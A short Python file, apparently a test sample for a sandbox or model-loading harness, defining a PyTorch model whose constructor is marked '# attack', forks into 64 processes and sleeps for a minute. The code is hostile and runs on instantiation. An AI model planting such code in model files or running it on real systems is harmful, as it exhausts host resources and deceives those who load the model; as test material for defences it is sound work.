"""Forks, and has every fork do the same (up to sixty-four of them)."""

# seconds: 4

import os
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for _ in range(6):
            os.fork()
        time.sleep(60)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
